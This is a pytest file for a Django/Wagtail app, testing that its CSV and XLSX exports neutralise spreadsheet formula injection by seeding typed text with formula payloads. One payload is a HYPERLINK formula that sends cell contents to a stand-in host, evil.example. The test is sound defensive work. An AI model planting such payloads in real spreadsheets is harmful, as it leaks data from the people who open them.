"""Text typed by learners and coordinators never runs as a formula in a spreadsheet Redflag writes.

Every export is found from the URL configuration, filled with names, places and titles that a
spreadsheet program would run, and read back as CSV and XLSX: no cell is a formula, every such
text is still there (after the apostrophe that marks it as text), and numbers and dates stay
typed. A new export that Redflag adds fails here until its data is seeded below.
"""

import csv
import datetime
import importlib
import inspect
import io
import pathlib
import re

import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from openpyxl import load_workbook
from redflag.lib.spreadsheets import FORMULA_TRIGGERS, safe_cell
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from certificates import codes
from certificates.models import Certificate
from certificates.services import bulk_downloads
from courses.models import CoursePage, StakeholderGroup
from outreach.models import (
    Campaign,
    CampaignTarget,
    InPersonSession,
    Organisation,
    OrganisationManager,
    OutcomeReport,
)
from outreach.services import outcomes
from quizzes.models import Answer, Attempt
from quizzes.testing import make_quiz
from tests.conftest import certificates_written, confirm_password, make_jurisdiction, make_user

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"Open record")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
ISSUED_ON = datetime.date(2025, 3, 3)
PERIOD = "date_from=2025-01-01&date_to=2025-12-31"
PROJECT_APPS = {"home", "accounts", "courses", "quizzes", "certificates", "outreach"}

# Every export that shows text someone typed: each must carry all the payloads. Wagtail's own
# reports are here where they list such text (Site history names certificates by learner name;
# the page reports list course and quiz titles).
CARRIES_TYPED_TEXT = {
    "coverage:groups", "coverage:group", "coverage:counties", "coverage:not_reached",
    "coverage:organisation", "coverage:outcomes", "wagtailsnippets_outreach_organisation:list",
    "campaigns:campaign",
    "inpersonsession:index", "quiz_reports:index", "quiz_reports:questions", "quiz_reports:topics",
    "wagtailadmin_reports:site_history", "wagtailadmin_reports:aging_pages",
    "wagtailadmin_reports:locked_pages",
}
# Redflag's exports with no typed text at all, and why.
NO_TYPED_TEXT = {
    "coverage:months": "months and counts only",
}


def export_patterns():
    """(name, pattern) for every URL that serves a spreadsheet export with columns."""

    def walk(patterns, namespaces):
        for pattern in patterns:
            if isinstance(pattern, URLResolver):
                space = (pattern.namespace,) if pattern.namespace else ()
                yield from walk(pattern.url_patterns, namespaces + space)
                continue
            view_class = getattr(pattern.callback, "view_class", None)
            if not (view_class and issubclass(view_class, SpreadsheetExportMixin)):
                continue
            initkwargs = getattr(pattern.callback, "view_initkwargs", {})
            if initkwargs.get("results_only"):
                continue  # the same view, serving its listing's results without the page
            if initkwargs.get("list_export", view_class.list_export):
                yield ":".join(namespaces + (pattern.name,)), pattern

    return list(walk(get_resolver().url_patterns, ()))


def belongs_to_redflag(pattern: URLPattern) -> bool:
    view_class = pattern.callback.view_class
    model = pattern.callback.view_initkwargs.get("model") or getattr(view_class, "model", None)
    return (view_class.__module__.split(".")[0] in PROJECT_APPS
            or (model is not None and model._meta.app_label in PROJECT_APPS))


def squeeze(text: str) -> str:
    return " ".join(text.split())


def csv_cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


def xlsx_cells(response) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "formula cells"
    return [cell.value for cell in cells]


def assert_no_formula(name, cells):
    # A typed value that looks like a formula stays a number or date cell, never text to run.
    risky = [value for value in cells
             if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS)]
    assert not risky, f"{name}: cells a spreadsheet would run: {risky}"


def assert_payloads_kept(name, cells):
    # Compared with whitespace squeezed: XLSX, being XML, stores a carriage return as a line
    # feed, and the coverage tables tidy the spaces of a county as typed.
    texts = [squeeze(value[1:]) for value in cells
             if isinstance(value, str) and value.startswith("'")]
    missing = [payload for payload in PAYLOADS
               if not any(text.startswith(squeeze(payload)) for text in texts)]
    assert not missing, f"{name}: typed text lost or not marked as text: {missing}"


@pytest.fixture
def hostile_world(course_index, hotel_group):
    """Every kind of typed text an export shows, each spelled as every payload."""
    groups = [StakeholderGroup.objects.create(name=payload, slug=f"payload-{index}")
              for index, payload in enumerate(PAYLOADS)]
    reached = [Organisation.objects.create(name=payload, group=hotel_group, state="CA",
                                           county="Alameda", address=payload, headcount=50)
               for payload in PAYLOADS]
    for index, payload in enumerate(PAYLOADS):
        Organisation.objects.create(name=payload, group=groups[index], state="CA",
                                    county="Contra Costa", address=payload, headcount=10)
        InPersonSession.objects.create(
            date=ISSUED_ON, place=payload, group=groups[index], organisation=reached[index],
            state="CA", county=payload, attendees=3, roster=payload, notes=payload)
    courses, quizzes = [], []
    for index, payload in enumerate(PAYLOADS):
        course = CoursePage(title=payload, slug=f"payload-course-{index}", summary="S.",
                            estimated_minutes=10, jurisdiction=make_jurisdiction())
        course_index.add_child(instance=course)
        course.save_revision().publish()
        quiz = make_quiz(course, questions=2, slug=f"payload-quiz-{index}")
        quiz.title = payload
        quiz.save_revision().publish()
        course.locked = True
        course.save()
        courses.append(course)
        quizzes.append(quiz)
    learners = []
    for index, payload in enumerate(PAYLOADS):
        learner = make_user(f"learner{index}@example.org", profile_group=hotel_group)
        profile = learner.learner_profile
        profile.certificate_name, profile.job_role, profile.organisation = (
            payload, payload, reached[0])
        profile.save()
        certificate = Certificate.objects.create(
            user=learner, course=courses[index], learner_name=payload, course_title=payload,
            group=hotel_group, group_name=payload, organisation=reached[0],
            organisation_name=payload, job_role=payload, state="CA", county="Alameda",
            score_percent=90,
            passed_at=timezone.make_aware(datetime.datetime.combine(ISSUED_ON,
                                                                    datetime.time(9))),
            issued_on=ISSUED_ON, expires_on=ISSUED_ON + datetime.timedelta(days=730),
            code=codes.new_code())
        certificates_written()
        log(certificate, "certificate.issued", user=learner)
        OutcomeReport.objects.create(
            user=learner, recorded_by=learner, reported_on=ISSUED_ON, channel="hotline",
            group=hotel_group, organisation=reached[index], state="CA", county="Alameda",
            months_since_training=0)
        outcomes.recount_months()  # written with the ORM, as only outcomes.record does
        learners.append(learner)
    started_at = timezone.make_aware(datetime.datetime.combine(ISSUED_ON, datetime.time(8)))
    attempt = Attempt.objects.create(
        user=learners[0], quiz=quizzes[0], course=courses[0], questions=[], question_count=6,
        pass_mark=80, status=Attempt.Status.GRADED, started_at=started_at,
        submitted_at=started_at + datetime.timedelta(minutes=5), correct_count=0, score_percent=0)
    # Questions since removed from the quiz keep the text the learner was asked, and topics
    # removed since keep their names.
    Answer.objects.bulk_create([
        Answer(attempt=attempt, question_id=f"removed-{index}", position=index,
               question_text=payload, topic=payload, correct=False)
        for index, payload in enumerate(PAYLOADS)])
    campaign = Campaign.objects.create(
        name="Spring hotels", counties=[["CA", "Alameda"]], starts_on=datetime.date(2025, 1, 1),
        ends_on=datetime.date(2025, 12, 31), goal=5, created_by=learners[0])
    campaign.groups.set([hotel_group])
    CampaignTarget.objects.bulk_create([
        CampaignTarget(campaign=campaign, organisation=organisation, session_place=payload)
        for organisation, payload in zip(reached, PAYLOADS, strict=True)])
    return {"group": hotel_group, "organisation": reached[0], "quiz": quizzes[0],
            "campaign": campaign}


@pytest.fixture
def admin_client(client, db):
    client.force_login(make_user("admin@example.org", is_superuser=True, is_staff=True))
    confirm_password(client)  # exports of people's records ask for it
    return client


def test_every_export_keeps_typed_formulas_as_text_in_csv_and_xlsx(admin_client, hostile_world):
    url_kwargs = {
        "coverage:group": {"group_id": hostile_world["group"].pk},
        "coverage:organisation": {"pk": hostile_world["organisation"].pk},
        "quiz_reports:questions": {"quiz_id": hostile_world["quiz"].pk},
        "quiz_reports:topics": {"quiz_id": hostile_world["quiz"].pk},
        "campaigns:campaign": {"pk": hostile_world["campaign"].pk},
    }
    exports = export_patterns()
    names = {name for name, _pattern in exports}
    assert CARRIES_TYPED_TEXT | set(NO_TYPED_TEXT) <= names, "an export here is gone"
    unchecked = sorted(name for name, pattern in exports if belongs_to_redflag(pattern)
                       and name not in CARRIES_TYPED_TEXT and name not in NO_TYPED_TEXT)
    assert not unchecked, f"seed typed text for these exports in this test: {unchecked}"

    for name, pattern in exports:
        needed = set(pattern.pattern.converters)
        assert needed <= set(url_kwargs.get(name, {})), f"give {name} its URL arguments here"
        url = reverse(name, kwargs=url_kwargs.get(name))
        for export_format, read in (("csv", csv_cells), ("xlsx", xlsx_cells)):
            response = admin_client.get(f"{url}?{PERIOD}&export={export_format}")
            assert response.status_code == 200, f"{name} {export_format}"
            cells = read(response)
            assert_no_formula(f"{name} {export_format}", cells)
            if name in CARRIES_TYPED_TEXT:
                assert_payloads_kept(f"{name} {export_format}", cells)


def test_numbers_and_dates_stay_typed_in_xlsx_exports(admin_client, hostile_world):
    url = reverse("inpersonsession:index")
    cells = xlsx_cells(admin_client.get(f"{url}?export=xlsx"))
    assert ISSUED_ON in cells  # the session's date, as a date cell
    assert 3 in cells  # attendees, as a number cell
    url = reverse("coverage:not_reached")
    assert 10 in xlsx_cells(admin_client.get(f"{url}?{PERIOD}&export=xlsx"))  # headcount


def test_the_managers_roster_and_the_bulk_roster_keep_typed_formulas_as_text(
        client, hostile_world):
    organisation = hostile_world["organisation"]
    manager = make_user("manager@example.org")
    OrganisationManager.objects.create(user=manager, organisation=organisation)
    client.force_login(manager)
    confirm_password(client)
    cells = csv_cells(client.get(reverse("outreach:roster", args=[organisation.pk])))
    assert_no_formula("organisation roster", cells)
    assert_payloads_kept("organisation roster", cells)

    roster = bulk_downloads.roster_csv(Certificate.objects.order_by("pk"),
                                             today=ISSUED_ON)
    cells = [cell for row in csv.reader(io.StringIO(roster)) for cell in row]
    assert_no_formula("bulk download roster", cells)
    assert_payloads_kept("bulk download roster", cells)


def test_a_control_character_in_a_name_does_not_break_the_xlsx_export(admin_client, hotel_group):
    Organisation.objects.create(name="Bell\x07 Hotel", group=hotel_group, state="CA",
                                county="Alameda")
    url = reverse("wagtailsnippets_outreach_organisation:list")
    response = admin_client.get(f"{url}?export=xlsx")
    assert response.status_code == 200
    assert "Bell Hotel" in xlsx_cells(response)


def test_safe_cell_marks_formula_text_and_leaves_other_values_as_they_are():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    assert safe_cell("Harbor View Hotel") == "Harbor View Hotel"
    assert safe_cell("O'Neil - front desk") == "O'Neil - front desk"
    assert safe_cell(-5) == -5 and safe_cell(2.5) == 2.5 and safe_cell(None) is None
    assert safe_cell(datetime.date(2025, 3, 3)) == datetime.date(2025, 3, 3)
    assert safe_cell("\x00=1") == "'=1"  # what a spreadsheet cannot hold goes first


def test_no_export_view_writes_cells_around_the_guarded_methods():
    """Wagtail's form submissions and page listings export through views no URL names alone;
    none of them, and no view Redflag adds, may write cells without passing through safe_cell."""
    assert SpreadsheetExportMixin.redflag_safe_cells
    writers = {"preprocess_field_value", "get_heading", "write_csv_row", "generate_xlsx_row",
               "stream_csv", "write_xlsx"}

    def subclasses(cls):
        for sub in cls.__subclasses__():
            yield sub
            yield from subclasses(sub)

    # Overrides that keep Wagtail's guarded writing (super()) and add cells of their own, each
    # through safe_cell: the county table's XLSX adds a Map sheet with its legend.
    extending = {"outreach.reports.CountyCoverageReport.write_xlsx": "write_xlsx"}
    overriding = sorted(f"{cls.__module__}.{cls.__qualname__}.{method}"
                        for cls in subclasses(SpreadsheetExportMixin)
                        for method in writers & set(vars(cls)))
    for name in [name for name in overriding if name in extending]:
        module, qualname, method = name.rsplit(".", 2)
        source = inspect.getsource(getattr(importlib.import_module(module), qualname)
                                   .__dict__[method])
        assert f"super().{extending[name]}(" in source, name
        cells = re.findall(r"(?:\.cell\([^)]*value=|\]\s*=\s*)(.+)", source)
        assert cells and all(cell.startswith("safe_cell(") for cell in cells), (name, cells)
        overriding.remove(name)
    assert not overriding, f"pass these cells through safe_cell: {overriding}"


def test_every_module_that_writes_csv_or_xlsx_uses_safe_cell():
    root = pathlib.Path(__file__).resolve().parent.parent
    writer = re.compile(r"csv\.(writer|DictWriter)\(|\bWorkbook\(")
    modules = [path for folder in ("site", "courses", "quizzes", "certificates", "outreach")
               for path in (root / folder).rglob("*.py") if "migrations" not in path.parts]
    writing = [path for path in modules if writer.search(path.read_text())]
    assert writing, "the rosters write CSV"
    assert not [str(path.relative_to(root)) for path in writing
                if "safe_cell(" not in path.read_text()]
